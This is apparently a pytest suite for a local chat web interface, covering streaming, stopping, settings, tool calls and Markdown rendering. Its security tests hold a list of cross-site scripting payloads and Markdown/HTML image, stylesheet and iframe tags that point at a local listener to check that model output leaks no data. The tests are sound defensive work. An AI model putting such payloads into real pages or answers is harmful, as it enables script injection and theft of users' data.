"""Chat: streaming, stop, Markdown that may hold anything, tools, settings. The model answers with what it is asked."""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

LAST = ".assistant:last-child"


@pytest.fixture
def page(serving, tab) -> Any:
    served = serving()
    opened = tab(served)
    opened.served = served
    opened.expected = ("api/documents",)  # there are none
    return opened.open("chat")


def settings(page: Any, **values: str) -> None:
    page.one("#chat-settings").click()
    for name, value in values.items():
        page.js(
            """const field = document.getElementById("settings-form").elements[arguments[0]];
            field.value = arguments[1]; field.dispatchEvent(new Event("input", { bubbles: true }))""",
            name,
            value,
        )
    page.press("\ue00c")


def test_an_answer_streams_and_ends_with_its_facts(page) -> None:
    page.served.model.pause = 0.1
    text = "A **bold** answer comes in pieces, one after the other, until all of it is there."
    page.submit("chat", text)
    page.until(lambda: 3 < len(page.text(f"{LAST} .markdown")) < 70)
    assert page.one("#chat-form .stop").is_displayed()
    assert not page.one("#chat-form [type=submit]").is_displayed()
    page.served.model.pause = 0
    page.until(lambda: page.all(f"{LAST}:not(.writing)"))
    assert page.text(f"{LAST} .markdown") == text.replace("**", "")
    assert page.text(f"{LAST} .markdown strong") == "bold"
    assert f"{len(text) + 1} tokens" in page.text(f"{LAST} .actions")
    assert page.one("#chat-form [type=submit]").is_displayed()


def test_an_adapter_is_chosen_like_a_model(adapted, tab, monkeypatch: pytest.MonkeyPatch) -> None:
    engine, asked = adapted.service.engine, []
    submit = engine.submit
    monkeypatch.setattr(engine, "submit", lambda *a, **more: asked.append(more["adapter"]) or submit(*a, **more))
    page = tab(adapted)
    page.expected = ("api/documents",)
    page.open("chat")
    assert [option.text for option in page.all("#chat-model option")] == ["tiny", "pirate", "poet"]
    assert page.text("#chat-name") == "tiny"
    page.one("#chat-model option[value=poet]").click()
    assert page.text("#chat-name") == "poet"
    page.chat("Ahoy")
    assert asked == ["poet"]


def test_stop_ends_the_answer_here_and_in_the_engine(page) -> None:
    page.served.model.pause = 0.05
    page.submit("chat", "x" * 1000)
    page.until(lambda: len(page.text(f"{LAST} .markdown")) > 5)
    page.one("#chat-form .stop").click()
    page.served.wait_until(lambda stats: stats.running == 0, 20)
    page.until(lambda: page.all(f"{LAST}:not(.writing)"))
    assert 5 < len(page.text(f"{LAST} .markdown")) < 500
    assert "Stopped" in page.text(f"{LAST} .actions")
    assert page.focused("#chat-input")


def test_regenerate_asks_again_and_keeps_what_was_said_before(page) -> None:
    page.chat("One.")
    page.chat("Two.")
    assert len(page.all(".again")) == 2
    assert len([each for each in page.all(".again") if each.is_displayed()]) == 1
    page.one(f"{LAST} .again").click()
    page.until(lambda: len(page.served.model.prompts) == 3 and page.all(f"{LAST}:not(.writing)"))
    assert [each.text for each in page.all(".bubble")] == ["One.", "Two."]
    assert page.text(f"{LAST} .markdown") == "Two."
    assert page.served.model.prompts[2] == page.served.model.prompts[1]


def test_the_conversation_outlives_the_page_until_it_is_cleared(page) -> None:
    page.chat("Remember **this**.")
    page.open("chat")
    assert page.text(".markdown strong") == "this"
    page.chat("And this.")
    assert "Remember **this**." in page.served.model.prompts[-1]
    page.one("#chat-clear").click()
    assert not page.all(".message")
    page.open("chat")
    assert page.one("#chat-empty").is_displayed()


def test_clear_ends_an_answer_that_is_under_way(page) -> None:
    page.served.model.pause = 0.05
    page.submit("chat", "x" * 1000)
    page.until(lambda: len(page.text(f"{LAST} .markdown")) > 5)
    page.one("#chat-clear").click()
    page.served.wait_until(lambda stats: stats.running == 0, 20)
    page.until(lambda: page.one("#chat-form [type=submit]").is_displayed())
    assert not page.all(".message")


def test_settings_reach_the_model(page) -> None:
    settings(page, system="You are terse.", temperature="0", limit="5")
    page.chat("A long answer.")
    assert "system\nYou are terse." in page.served.model.prompts[-1]
    assert page.text(f"{LAST} .markdown") == "A lon"
    assert "Ended at the limit of tokens" in page.text(f"{LAST} .actions")
    page.open("chat")
    page.one("#chat-settings").click()
    assert page.js("return document.getElementById('set-system').value") == "You are terse."


@pytest.mark.parametrize(("name", "value", "said"), [("tools", "[{", "Tools: "), ("temperature", "9", "Temperature: ")])
def test_settings_that_cannot_be_are_told_and_not_taken(page, name: str, value: str, said: str) -> None:
    page.one("#chat-settings").click()
    field = page.one(f"#set-{name}")
    field.send_keys(value)
    assert page.text("#settings-error").startswith(said)
    page.press("\ue00c")
    page.chat("Hello.")
    assert page.text(f"{LAST} .markdown") == "Hello."


def test_an_error_of_the_server_is_told_and_can_be_tried_again(page) -> None:
    page.expected += ("400",)
    page.chat("y" * 5000)
    assert "4096" in page.text(f"{LAST} .notice")
    assert not page.text(f"{LAST} .markdown")
    assert page.one(f"{LAST} .again").is_displayed()
    page.one("#chat-clear").click()
    page.chat("Short.")
    assert page.text(f"{LAST} .markdown") == "Short."


def test_a_server_that_is_gone_is_told(page) -> None:
    page.expected += ("ERR_CONNECTION_REFUSED", "net::ERR")
    page.served.stop()
    page.until(lambda: _refused(page.served.port))
    page.chat("Anyone?")
    assert "cannot be reached" in page.text(f"{LAST} .notice")


def _refused(port: int) -> bool:
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) != 0


# --- tools ------------------------------------------------------------------------------------------------------------

TOOLS = [
    {
        "type": "function",
        "function": {
            "name": name,
            "parameters": {
                "type": "object",
                "properties": {"city": {"type": "string"}},
                "required": ["city"],
                "additionalProperties": False,
            },
        },
    }
    for name in ("weather", "clock")
]
CALLS = "".join(
    f'<tool_call>\n{{"name": "{name}", "arguments": {{"city":"{city}"}}}}\n</tool_call>'
    for name, city in (("weather", "Paris"), ("clock", "Rome"))
)


def test_tool_calls_are_folded_and_their_results_go_back(page) -> None:
    settings(page, tools=json.dumps(TOOLS), temperature="0")
    page.chat(CALLS)
    calls = page.all(f"{LAST} details.tool")
    assert [each.text.split() for each in calls] == [["Calls", "weather"], ["Calls", "clock"]]
    assert all(each.get_attribute("open") is None for each in calls)
    calls[0].find_element("css selector", "summary").click()
    assert '"city": "Paris"' in calls[0].text
    for area, result in zip(page.all(".results textarea"), ("18 degrees", "noon")):
        area.send_keys(result)
    page.one(".results button").click()
    page.until(lambda: len(page.served.model.prompts) == 2 and page.all(f"{LAST}:not(.writing)"))
    assert all(said in page.served.model.prompts[1] for said in ("18 degrees", "noon", "Paris", "Rome"))
    results = [each.text.split() for each in page.all("#chat-thread > details")]
    assert results == [["Result", "of", "weather"], ["Result", "of", "clock"]]


def test_two_calls_of_one_index_stay_two(modules) -> None:
    """Report: parallel calls that share an index were merged (smolagents PR 1958)."""
    pieces = [
        {"index": 0, "id": "a", "function": {"name": "f", "arguments": '{"x"'}},
        {"index": 0, "function": {"arguments": ": 1}"}},
        {"index": 0, "id": "b", "function": {"name": "g", "arguments": "{}"}},
    ]
    body = "const calls = []; for (const each of a[0]) m.addCall(calls, each); return calls"
    calls = modules.module("js/chat.js", body, pieces)
    assert [(call["id"], call["function"]) for call in calls] == [
        ("a", {"name": "f", "arguments": '{"x": 1}'}),
        ("b", {"name": "g", "arguments": "{}"}),
    ]


# --- Markdown ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def canary() -> Iterator[tuple[str, list[str]]]:
    """An address elsewhere, and who came there."""
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.1)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    connection, _ = listening.accept()
                except TimeoutError:
                    continue
                with connection:
                    came.append(connection.recv(1000).decode(errors="replace"))

        thread = threading.Thread(target=listen)
        thread.start()
        yield f"127.0.0.1:{listening.getsockname()[1]}", came
        over.set()
        thread.join()


def test_a_markdown_image_asks_nobody_for_anything(page, canary) -> None:
    """Report: an image in a model's Markdown carried data away (dust#12359)."""
    address, came = canary
    page.requests()
    page.chat(
        f"![steal](http://{address}/a.png?secret=1) [![b](http://{address}/b.png)](http://{address}/c)\n\n"
        f"<img src=http://{address}/d.png> <img srcset='http://{address}/e.png 2x'>\n\n"
        f"<link rel=stylesheet href=http://{address}/f.css><style>@import 'http://{address}/g.css'</style>\n\n"
        f'<div style="background: url(http://{address}/h.png)">x</div>\n\n'
        f"<video poster=http://{address}/i.png></video><iframe src=http://{address}/j></iframe>\n\n"
        f"![r][ref]\n\n[ref]: http://{address}/k.png\n\n![data](data:image/svg+xml,<svg/onload=alert(1)>)"
    )
    page.chat("Once more, so that all there was to load is loaded.")
    assert came == []
    assert [address for address in page.requests() if not address.startswith(page.url)] == []
    assert (
        page.js("return document.querySelectorAll('.markdown :is(img, link, style, video, iframe, [style])').length")
        == 0
    )
    link = page.one(".markdown a")
    assert (link.text, link.get_attribute("rel")) == ("steal", "noopener noreferrer nofollow")


ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<script>alert(1)</script>)",
    "[d](\x01javascript:alert(1)) [e](vbscript:alert(1)) <javascript:alert(1)>",
    "[f](https://x.test \"onmouseover=alert(1) x='\") ![g](x\"onerror=alert(1))",
    "`<img src=x onerror=alert(1)>`\n\n```html\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "<a href='javascript:alert(1)' id=main name=body>x</a><base href='//x.test'><meta http-equiv=refresh content=0>",
    "<br onclick=alert(1)>text<sub onclick=alert(1)>x</sub>",
]  # fmt: skip


_ODD = """
const known = ("a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong sub sup svg " +
  "table tbody td th thead tr ul use").split(" ");
const odd = (element) => !known.includes(element.tagName.toLowerCase())
  || [...element.attributes].some(({ name }) => /^(on|style|id$|name$|formaction)/.test(name))
  || (element.matches("a[href]") && !/^(https?|mailto):/.test(element.getAttribute("href")));
return [...document.querySelectorAll(".markdown *")].filter(odd).map((element) => element.outerHTML);
"""


def test_nothing_in_an_answer_is_run_however_far_it_has_come(modules) -> None:
    text = "\n\n".join(ATTACKS)
    body = """
      const element = document.getElementById("chat-thread");
      element.className = "markdown";
      const view = new m.MarkdownView(element);
      for (let end = 1; end <= a[0].length; end++) view.update(a[0].slice(0, end));"""
    page = modules
    page.module("js/markdown.js", body, text)
    assert page.js(_ODD) == []
    # What is no Markdown is text, and not lost.
    assert "<script>alert(1)</script>" in page.text(".markdown")
    for link in page.all(".markdown a"):
        page.js(
            "arguments[0].removeAttribute('target'); if (!/^http/.test(arguments[0].href)) arguments[0].click()", link
        )


def test_markdown_looks_like_what_it_says(page) -> None:
    page.chat(
        "# Title\n\n7. one\n8. two\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n"
        "```python\nprint(1 < 2)\n```\n\n- [x] done<br>so"
    )
    shown = page.one(".markdown")
    assert [shown.find_element("css selector", each).text for each in ("h1", "ol li:last-child", "td")] == [
        "Title",
        "two",
        "1",
    ]
    assert shown.find_element("css selector", "ol").get_attribute("start") == "7"
    assert shown.find_element("css selector", "td:last-child").value_of_css_property("text-align").endswith("right")
    assert shown.find_element("css selector", ".listing-head span").text == "python"
    assert shown.find_element("css selector", "pre code").text == "print(1 < 2)"
    assert shown.find_element("css selector", "ul li").text == "☑ done\nso"


def test_blocks_that_are_whole_stay_while_others_come(modules) -> None:
    """What someone has selected in an answer must not go away while it grows."""
    first, later = modules.module(
        "js/markdown.js",
        """const element = document.createElement("div");
        const view = new m.MarkdownView(element);
        view.update("First [x] block.\\n\\nSecond");
        const block = element.firstElementChild;
        view.update("First [x] block.\\n\\nSecond grows.\\n\\nThird.");
        const stays = element.firstElementChild === block && element.childElementCount;
        view.update("First [x] block.\\n\\nSecond grows.\\n\\n[x]: https://x.test/");
        return [stays, element.querySelector("a")?.href];""",
    )
    assert (first, later) == (3, "https://x.test/")


def test_a_stream_that_breaks_off_is_told_and_what_there_is_stays(serving, tab) -> None:
    served = serving(stop_seconds=1)
    page = tab(served)
    page.expected = ("ERR_INCOMPLETE_CHUNKED_ENCODING", "api/documents")
    page.open("chat")
    served.model.pause = 0.05
    page.submit("chat", "x" * 1000)
    page.until(lambda: len(page.text(f"{LAST} .markdown")) > 5)
    served.stop()  # it lets the stream go on for a second, then cuts it
    page.until(lambda: page.all(f"{LAST}:not(.writing)"))
    assert re.search("lost|stop", page.text(f"{LAST} .notice"))
    assert page.text(f"{LAST} .markdown").startswith("xxxxx")
